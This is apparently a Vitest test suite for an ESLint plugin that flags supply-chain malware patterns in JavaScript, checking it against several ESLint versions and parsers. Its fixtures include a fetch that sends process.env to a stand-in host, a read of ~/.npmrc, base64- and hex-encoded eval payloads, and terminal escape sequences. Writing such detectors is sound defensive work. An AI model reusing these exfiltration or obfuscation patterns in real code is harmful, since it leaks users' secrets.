import { existsSync } from 'node:fs';
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';
import babelParser from '@babel/eslint-parser';
import * as typescriptParser from '@typescript-eslint/parser';
import { Linter } from 'eslint';
import { defineConfig } from 'eslint/config';
import { Linter as Linter9 } from 'eslint-9';
import { describe, expect, test } from 'vitest';
import { rules } from '../rules/index.js';
import { messageOf } from '../src/eslint/adapter.js';
import stowaway, { toEslintRules } from '../src/eslint/index.js';
import { parseWith } from '../src/parse/parse.js';
import { childrenOf } from '../src/parse/walk.js';
import { analyseFile } from '../src/run/file.js';
import { placeOnDisk } from '../src/run/findings.js';
import { scanSource } from '../src/scan.js';
import type { AnyNode, Example, Finding, Rule } from '../src/types.js';

// ── hosts ──────────────────────────────────────────────────────────────────────────────────────────────────────────

type Options = NonNullable<Linter.Config['languageOptions']>;

interface Host {
  readonly name: string;
  readonly linter: Linter;
  readonly languageOptions: Options;
}

const linters: Readonly<Record<string, Linter>> = {
  'ESLint 10': new Linter(),
  'ESLint 9': new Linter9() as unknown as Linter,
};
const parsers: Readonly<Record<string, Options>> = {
  'its own parser': {},
  '@typescript-eslint/parser': { parser: typescriptParser },
  '@babel/eslint-parser': {
    parser: {
      // The version that works with the oldest Node has scopes of its own, which ESLint 10 does not take any more.
      parseForESLint(code: string, options: object) {
        const { scopeManager: _, ...rest } = babelParser.parseForESLint(code, options);
        return rest;
      },
    },
    parserOptions: { requireConfigFile: false, babelOptions: { babelrc: false, configFile: false } },
  },
};
const hosts: readonly Host[] = Object.entries(linters).flatMap(([version, linter]) =>
  Object.entries(parsers).map(([parser, languageOptions]) => ({
    name: `${version} with ${parser}`,
    linter,
    languageOptions,
  })),
);
const [host] = hosts as readonly [Host];
const own: Host = { ...host, languageOptions: { parser: stowaway.parser } };

const path = 'index.js';

/** Messages of ESLint, in whichever of the three kinds of source the code is. */
function lint(code: string, config: Linter.Config, { linter, languageOptions } = host): readonly Linter.LintMessage[] {
  let messages: readonly Linter.LintMessage[] = [];
  for (const sourceType of ['module', 'commonjs', 'script'] as const) {
    messages = linter.verify(code, [{ ...config, languageOptions: { ...languageOptions, sourceType } }], path);
    if (!messages.some(({ fatal }) => fatal)) break;
  }
  expect(messages.filter(({ fatal }) => fatal)).toEqual([]);
  return messages;
}

const only = (id: string): Linter.Config => ({ plugins: { stowaway }, rules: { [`stowaway/${id}`]: 'error' } });
const { all, recommended } = stowaway.configs;
const idsIn = (messages: readonly Linter.LintMessage[]) => messages.map(({ ruleId }) => ruleId);

// ── parity ─────────────────────────────────────────────────────────────────────────────────────────────────────────

/** What a host shows of a finding, with lines and columns from 1. */
type Shown = Pick<Linter.LintMessage, 'message' | 'line' | 'column' | 'endLine' | 'endColumn'>;

function withCode(id: string, rule: Rule, side: 'flags' | 'passes') {
  return rule.examples[side]
    .filter((example): example is Example & { code: string } => example.code !== undefined)
    .map(({ title, code }) => ({ id, rule, side, title, code }));
}

const cases = Object.entries(rules).flatMap(([id, rule]) =>
  rule.file || rule.text ? [...withCode(id, rule, 'flags'), ...withCode(id, rule, 'passes')] : [],
);
const parsed = cases.filter(({ rule }) => rule.file);
const idsOf = (some: typeof cases) => [...new Set(some.map(({ id }) => id))];

function lintedBy(host: Host, id: string, code: string): Shown[] {
  return inOrder(
    lint(code, only(id), host).map(({ message, line, column, endLine, endColumn }) => ({
      message,
      line,
      column,
      ...(endLine !== undefined && { endLine }),
      ...(endColumn !== undefined && { endColumn }),
    })),
  );
}

/** The library's findings as a host is to show them: at their last step, where it stands on disk. */
function shown(code: string, findings: readonly Finding[]): Shown[] {
  return inOrder(
    findings.map(finding => {
      const at = placeOnDisk(finding);
      if (!at) throw new Error('a finding without a place');
      const before = code.slice(0, at.end).split('\n');
      return {
        message: messageOf(finding),
        line: at.line,
        column: at.column,
        endLine: before.length,
        endColumn: (before.at(-1)?.length ?? 0) + 1,
      };
    }),
  );
}

function inOrder(findings: Shown[]): Shown[] {
  return findings.sort(
    (a, b) => a.line - b.line || a.column - b.column || (a.message < b.message ? -1 : a.message > b.message ? 1 : 0),
  );
}

const scanned = new Map<string, Shown[]>();

/** What the library finds, asked once for all hosts. */
function scannedWith(id: string, rule: Rule, code: string): Shown[] {
  const key = `${id} ${code}`;
  const found = scanned.get(key) ?? shown(code, scanSource(code, { path, rules: { [id]: rule } }));
  scanned.set(key, found);
  return found;
}

/** Compares what a host says of every example of a rule with what the library does. */
function compare(host: Host, of: string): void {
  for (const { id, rule, side, title, code } of cases) {
    if (id !== of) continue;
    const found = lintedBy(host, id, code);
    expect({ title, found }).toEqual({ title, found: scannedWith(id, rule, code) });
    expect({ title, isFlagged: found.length > 0 }).toEqual({ title, isFlagged: side === 'flags' });
  }
}

describe.each([...hosts])('$name finds what the library finds, and in the same places', host => {
  test.each(idsOf(parsed))('%s', id => compare(host, id));
});

describe("the plugin's parser finds what the library finds, in code that no parser accepts, too", () => {
  test.each(idsOf(cases))('%s', id => compare(own, id));
});

describe.each(['meriyah', 'babel'] as const)('%s finds what the library finds, and in the same places', grammar => {
  test.each(parsed)('$id $side: $title', ({ id, rule, code }) => {
    const file = parseWith(grammar, { path, text: code });
    expect(file.grammar).toBe(grammar);
    const places = (findings: readonly Finding[]) =>
      findings.map(({ message, chain, bits }) => ({
        message,
        bits,
        chain: chain.map(({ says, at }) => ({ says, at })),
      }));
    expect(places(analyseFile(file, { [id]: rule }, {}))).toEqual(
      places(scanSource(code, { path, rules: { [id]: rule } })),
    );
  });
});

// ── the plugin ─────────────────────────────────────────────────────────────────────────────────────────────────────

describe('the plugin', () => {
  test('has the rules that look at single files and no others', () => {
    expect(Object.keys(stowaway.rules).sort()).toEqual(
      Object.keys(rules)
        .filter(id => rules[id]?.file ?? rules[id]?.text)
        .sort(),
    );
  });

  test.each(Object.entries(stowaway.rules))('says of %s what it finds, and has its page', (id, { meta }) => {
    expect(meta).toMatchObject({ type: 'problem', docs: { description: rules[id]?.meta.summary } });
    expect(meta?.docs?.url).toMatch(/^file:/);
    expect(existsSync(fileURLToPath(meta?.docs?.url ?? ''))).toBe(true);
    expect(meta?.hasSuggestions ?? false).toBe(rules[id]?.meta.rewrite !== undefined);
    expect(meta?.docs?.recommended).toBe(`stowaway/${id}` in (recommended.rules ?? {}));
  });

  test('has a config with all rules', () => {
    expect(Object.keys(all.rules ?? {})).toEqual(Object.keys(stowaway.rules).map(id => `stowaway/${id}`));
  });

  test('has a config of the findings of which one suffices for suspicion', () => {
    const ids = (code: string, { rules = {} }: Linter.Config) => idsIn(lint(code, { plugins: { stowaway }, rules }));
    const weak = `require('fs').readFileSync(require('os').homedir() + '/.npmrc');`;
    const strong = `fetch('https://collect.invalid', { body: JSON.stringify(process.env) });`;
    expect(ids(weak, all)).toEqual(['stowaway/reads-secrets']);
    expect(ids(weak, recommended)).toEqual([]);
    expect(recommended.rules).toHaveProperty(['stowaway/reads-secrets']);
    expect(ids(strong, recommended)).toEqual(['stowaway/sends-environment']);
    expect(Object.keys(recommended.rules ?? {})).not.toContain('stowaway/gates-dangerous-action');
  });

  test.each([
    ['itself', () => defineConfig(recommended)],
    ['its name', () => defineConfig({ plugins: { stowaway }, extends: ['stowaway/recommended'] })],
  ])('works by a config alone, taken by %s', (_, configs) => {
    const code = `fetch('https://collect.invalid', { body: JSON.stringify(process.env) });`;
    for (const linter of Object.values(linters))
      expect(idsIn(linter.verify(code, configs(), path))).toEqual(['stowaway/sends-environment']);
  });

  test('takes rules of others, and tells them of calls that no other asks about', () => {
    const mine: Rule = {
      meta: { summary: 'Debugs', why: '', behaviour: 'capability', messages: { here: 'Stops here', log: 'Logs' } },
      examples: { flags: [], passes: [] },
      file({ file, named, report }) {
        const at = (messageId: string, node: AnyNode) =>
          report({ messageId, chain: [{ role: 'sink', says: 'stops', origin: { file, node } }] });
        for (const { node } of named('some-logger.log')) at('log', node);
        return { DebuggerStatement: node => at('here', node) };
      },
    };
    const plugin = { rules: toEslintRules({ debugs: mine }) };
    const code = `require('some-logger').log();\ndebugger;`;
    expect(lint(code, { plugins: { mine: plugin }, rules: { 'mine/debugs': 'warn' } })).toMatchObject([
      { ruleId: 'mine/debugs', message: 'Logs', line: 1, column: 1, endLine: 1, endColumn: 29 },
      { ruleId: 'mine/debugs', message: 'Stops here', line: 2, column: 1, endLine: 2, endColumn: 10 },
    ]);
  });

  test('survives a file that it reports past the end of, and an empty one', () => {
    const names = Array.from({ length: 9 }, (_, index) => `_0x12ab${index}`).join();
    expect(lint(`var ${names}`, all)).toHaveLength(1);
    expect(lint('', all)).toEqual([]);
  });

  test('survives a file that a rule cannot deal with, and says so once', () => {
    const mine: Rule = {
      meta: { summary: 'Fails', why: '', behaviour: 'capability', messages: {} },
      examples: { flags: [], passes: [] },
      file() {
        throw new RangeError('too deep \u001b[2J');
      },
    };
    const plugin = { rules: toEslintRules({ fails: mine, 'sends-secrets': rules['sends-secrets'] as Rule }) };
    const found = lint('a()', {
      plugins: { mine: plugin },
      rules: { 'mine/fails': 'error', 'mine/sends-secrets': 'error' },
    });
    expect(found.map(({ message }) => message)).toEqual(['Could not be analysed to its end: too deep \\u{1b}[2J']);
  });

  test('does its work once for a file, however many rules are enabled', () => {
    let runs = 0;
    const counted = (id: string): Rule => ({
      ...(rules[id] as Rule),
      file() {
        runs++;
        return {};
      },
    });
    const plugin = {
      rules: toEslintRules({
        'sends-secrets': counted('sends-secrets'),
        'sends-environment': counted('sends-environment'),
      }),
    };
    lint('fetch(a)', {
      plugins: { mine: plugin },
      rules: { 'mine/sends-secrets': 'error', 'mine/sends-environment': 'error' },
    });
    expect(runs).toBe(2);
  });

  test.each([...hosts])('leaves the tree of $name as it was', host => {
    const before = new Map<AnyNode, Record<string, unknown>>();
    let seen = 0;
    const eachNode = (root: AnyNode, visit: (node: AnyNode) => void): void => {
      for (const stack = [root]; stack.length > 0; ) {
        const node = stack.pop() as AnyNode;
        visit(node);
        stack.push(...childrenOf(node));
      }
    };
    const around = {
      rules: {
        watch: {
          create: ({ sourceCode: { ast } }: { sourceCode: { ast: unknown } }) => ({
            Program: () => eachNode(ast as AnyNode, node => before.set(node, { ...node })),
            'Program:exit': () =>
              eachNode(ast as AnyNode, node => {
                seen++;
                expect(Object.keys(node)).toEqual(Object.keys(before.get(node) ?? {}));
                for (const [key, value] of Object.entries(before.get(node) ?? {}))
                  expect((node as unknown as Record<string, unknown>)[key]).toBe(value);
              }),
          }),
        },
      },
    };
    lint(
      `import h from 'h'; const { a, b: { c = 1 }, ...d } = process.env; class E { f = a?.g; #h() { return { a }; } } export { c as i };`,
      { plugins: { stowaway, around }, rules: { ...all.rules, 'around/watch': 'error' } },
      host,
    );
    expect(seen).toBe(before.size);
    expect(seen).toBeGreaterThan(40);
  });
});

// ── messages ───────────────────────────────────────────────────────────────────────────────────────────────────────

describe('a message', () => {
  const sends = `fetch('https://collect.invalid', { body: JSON.stringify(process.env) });`;
  const encoded = (code: string) => Buffer.from(code).toString('base64');

  test('about a decoded text stands where that text does, and shows its code', () => {
    const text = encoded(sends);
    const [found, ...others] = lintedBy(host, 'sends-environment', `\n  eval(atob('${text}'));`);
    expect(others).toEqual([]);
    expect(found).toEqual({
      line: 2,
      column: 8,
      endLine: 2,
      endColumn: 16 + text.length,
      message: `Sends the whole environment through fetch (in text decoded by base64: \`${sends}\`)`,
    });
  });

  test('names each decoder on the way in, and keeps the code short and on one line', () => {
    const inner = `${'const filler = 1;\n'.repeat(4)}${sends.replace('{ body', `{ ${'x: 0, '.repeat(20)} body`)}\n`;
    const middle = `eval(Buffer.from('${Buffer.from(inner).toString('hex')}', 'hex').toString())`;
    const [found] = lintedBy(host, 'sends-environment', `eval(atob('${encoded(middle)}'));`);
    expect(found?.message).toMatch(
      /^Sends the whole environment through fetch \(in text decoded by base64, then by hex: `fetch\([^`\n]*…`\)$/,
    );
    expect(found?.message.length).toBeLessThan(200);
  });

  test('holds nothing that acts on a terminal, and does not go on for ever', () => {
    const hostile = `\u001b[2J\u202e{{message}}${'\u200b'.repeat(300)}`;
    const mine: Rule = {
      meta: { summary: 'Says', why: '', behaviour: 'capability', messages: { it: 'Says {it} {it} {it}' } },
      examples: { flags: [], passes: [] },
      file: ({ file, program, report }) =>
        report({
          messageId: 'it',
          data: { it: hostile },
          chain: [{ role: 'sink', says: '', origin: { file, node: program as AnyNode } }],
        }),
    };
    const plugin = { rules: toEslintRules({ says: mine }) };
    const [found] = lint('a', { plugins: { mine: plugin }, rules: { 'mine/says': 'error' } });
    expect(found?.message).toMatch(/^Says \\u\{1b\}\[2J\\u\{202e\}\{\{message\}\}\\u\{200b\}/);
    expect(found?.message).toMatch(/^[ -~]*…$/);
    expect(found?.message.length).toBeLessThan(400);
  });
});

// ── suggestions ────────────────────────────────────────────────────────────────────────────────────────────────────

describe.each([...hosts])('a suggestion of $name', host => {
  const offering = parsed
    .filter(({ rule, side }) => rule.meta.rewrite !== undefined && side === 'flags')
    .map(({ id, rule, title, code }) => {
      const offered = scanSource(code, { path, rules: { [id]: rule } }).flatMap(({ rewrite }) => rewrite ?? []);
      return { id, title, code, offered };
    })
    .filter(({ offered }) => offered.length > 0);

  test.each(offering)('is what the library offers, and settles it: $id, $title', ({ id, code, offered }) => {
    const suggestions = lint(code, only(id), host).flatMap(({ suggestions = [] }) => suggestions);
    expect(suggestions.map(({ desc }) => desc)).toEqual(offered.map(({ says }) => says));
    for (const { fix } of suggestions) {
      const after = code.slice(0, fix.range[0]) + fix.text + code.slice(fix.range[1]);
      expect(lint(after, only(id), host)).toEqual([]);
    }
  });
});

// ── comments ───────────────────────────────────────────────────────────────────────────────────────────────────────

describe.each([...hosts])('comments disable rules in $name', host => {
  const hidden = `eval(atob('${Buffer.from(`require('child_process').exec('id', () => eval(x))`).toString('base64')}'));`;
  const spelled = String.raw`\u0065val(text);`;
  const enabled = ['stowaway/runs-decoded-text', 'stowaway/hides-api-name'];

  test.each([
    ['for the next line', `// eslint-disable-next-line stowaway/hides-api-name\n${spelled}`, []],
    ['for the line', `${spelled} // eslint-disable-line stowaway/hides-api-name -- known`, []],
    ['for a part', `/* eslint-disable stowaway/hides-api-name */\n${spelled}\n/* eslint-enable */`, []],
    ['for the file', `/* eslint stowaway/hides-api-name: "off" */\n${spelled}`, []],
    ['and not past it', `// eslint-disable-next-line stowaway/hides-api-name\n${spelled}\n${spelled}`, [enabled[1]]],
    ['and no others', `// eslint-disable-next-line stowaway/hides-api-name\n${hidden}`, [enabled[0]]],
  ])('%s', (_, code, left) => {
    const rules = Object.fromEntries(enabled.map(id => [id, 'error' as const]));
    const found = lint(code, { plugins: { stowaway }, rules }, host);
    expect(idsIn(found.filter(({ severity }) => severity === 2))).toEqual(left);
  });

  test('where a decoded text stands, for what is found in it', () => {
    const inner = `fetch('https://collect.invalid', { body: JSON.stringify(process.env) });`;
    const code = `f();\neval(atob('${Buffer.from(inner).toString('base64')}'));`;
    expect(lint(code, only('sends-environment'), host)).toHaveLength(1);
    const silenced = code.replace('\n', '\n// eslint-disable-next-line stowaway/sends-environment\n');
    expect(lint(silenced, only('sends-environment'), host)).toEqual([]);
  });
});

// ── third-party code ───────────────────────────────────────────────────────────────────────────────────────────────

describe.each(Object.entries(linters))('the config for third-party code in %s', (_, linter) => {
  const sends = `fetch('https://collect.invalid', { body: JSON.stringify(process.env) });`;
  const config = defineConfig(stowaway.configs['third-party']);
  const found = (code: string, file: string) => linter.verify(code, config, file);

  test.each([
    'node_modules/a/index.js',
    'node_modules/@a/b/node_modules/c/lib/d.mjs',
    'packages/web/node_modules/a/index.cjs',
    'src/vendor/a.js',
    'third_party/a/b.ts',
  ])('looks at %s', file => {
    expect(idsIn(found(sends, file))).toEqual(['stowaway/sends-environment']);
  });

  test.each(['src/index.js', 'src/vendor.js', 'node_modules/a/index.d.ts'])('does not look at %s', file => {
    expect(found(sends, file).filter(({ ruleId }) => ruleId !== null)).toEqual([]);
  });

  test('heeds no comment of the file', () => {
    const code = `/* eslint-disable */\n${sends} // eslint-disable-line\n/* eslint stowaway/sends-environment: "off" */`;
    const messages = found(code, 'node_modules/a/index.js').filter(({ severity }) => severity === 2);
    expect(idsIn(messages)).toEqual(['stowaway/sends-environment']);
  });

  test.each([
    ['TypeScript', `const a: string = 'b';`],
    ['Flow', `// @flow\nconst a = (b: ?string): boolean => true;`],
    ['JSX', `const a = <b c="d" />;`],
    ['a return at the top', `return 1;`],
    ['sloppy code', `with (a) { delete b; var let = 010; }`],
    ['a script with a first line of its own', `#!/usr/bin/env node\na();`],
    ['a template', `<% if (a) { %> <p></p> <% } %>`],
  ])('is not stopped by %s', (_, code) => {
    expect(found(code, 'node_modules/a/index.js')).toEqual([]);
    expect(idsIn(found(`${code}\n${sends}`, 'node_modules/a/index.js')).includes(null)).toBe(false);
  });

  test('is not stopped by what would end the whole run of ESLint', () => {
    const deep = `a${'()'.repeat(20_000)};\n`;
    expect(() => linter.verify(deep, {}, path)).toThrow(RangeError);
    expect(idsIn(found(deep + sends, 'node_modules/a/index.js'))).toEqual(['stowaway/sends-environment']);
  });
});

test('a configuration in CommonJS requires it, and has the same', () => {
  const built = fileURLToPath(new URL('../dist/src/eslint/index.js', import.meta.url));
  const required = createRequire(import.meta.url)(built) as Record<keyof typeof stowaway, object>;
  for (const part of ['meta', 'rules', 'configs', 'parser'] as const)
    expect(Object.keys(required[part])).toEqual(Object.keys(stowaway[part]));
});
